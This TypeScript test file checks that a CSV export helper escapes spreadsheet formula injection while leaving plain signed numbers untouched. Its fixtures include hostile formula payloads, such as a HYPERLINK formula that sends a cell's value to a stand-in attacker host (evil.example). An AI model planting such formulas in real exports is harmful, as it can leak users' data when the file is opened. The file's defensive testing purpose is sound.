import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/domain/shared/csv';

/** The cells of the one data row, read back the way a spreadsheet would get them. */
function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data).toHaveLength(2);
  return parsed.data[1]!;
}

describe('toCsv', () => {
  it('escapes every cell that starts like a formula, one line or more (a textarea adds line breaks)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      for (const text of [
        `${start}HYPERLINK("http://evil.example/?x="&A1,"click")`,
        `${start}1+1\nsecond line\r\nthird`,
      ]) {
        expect(cellsOf(toCsv(['Text', 'Other'], [{ Text: text, Other: 'x' }]))).toEqual([`'${text}`, 'x']);
      }
    }
  });

  it('writes a plain signed number or percentage as it is, a rise (+50%) like a fall (-3): no apostrophe', () => {
    for (const text of ['+50%', '-3', '-0.5', '+1,200', '+12.5%', '-1,234,567.89', '+0%']) {
      expect(cellsOf(toCsv(['Change'], [{ Change: text }]))).toEqual([text]);
    }
  });

  it('still escapes a signed cell that is more than a number, or a cell that starts with a line break', () => {
    for (const text of [
      '+1.0 pp',
      '+40 req | s from 0',
      '+<0.1%',
      '-3+A1',
      '+50%+1',
      '-2*3',
      '+1e5',
      '-1,2',
      '+1;=1+2',
      '-3\n=HYPERLINK("http://evil.example")',
      '+',
      '-',
      '\n=1+1',
    ]) {
      expect(cellsOf(toCsv(['Change'], [{ Change: text }]))).toEqual([`'${text}`]);
    }
  });

  it('leaves other cells as typed, line breaks and a formula sign after the start included', () => {
    const text = 'Deploys on Friday\n=SUM(A1:A9)\n- and more';
    expect(cellsOf(toCsv(['Text'], [{ Text: text }]))).toEqual([text]);
  });
});
